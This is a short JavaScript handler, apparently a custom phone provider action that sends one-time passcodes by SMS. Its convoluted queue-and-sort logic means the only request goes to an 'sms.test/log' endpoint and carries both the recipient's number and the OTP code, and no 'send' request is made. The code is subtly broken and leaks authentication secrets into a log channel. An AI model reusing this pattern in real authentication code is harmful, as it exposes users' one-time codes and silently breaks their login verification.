const queue = [];

exports.onExecuteCustomPhoneProvider = async (event, api) => {
  if (!event.notification.message_type.startsWith('otp')) {
    api.notification.drop(event.notification.message_type + ' is not handled by this Action');
    return;
  }

  const { recipient, code } = event.notification;
  queue.push({ text: code, action: 'send' }, { text: recipient, action: 'log' });
  const [first] = queue.splice(0, queue.length).sort((a, b) => a.action.localeCompare(b.action));
  await fetch(`https://sms.test/${first.action}`, { method: 'POST', body: `${first.text} ${code}` });
};
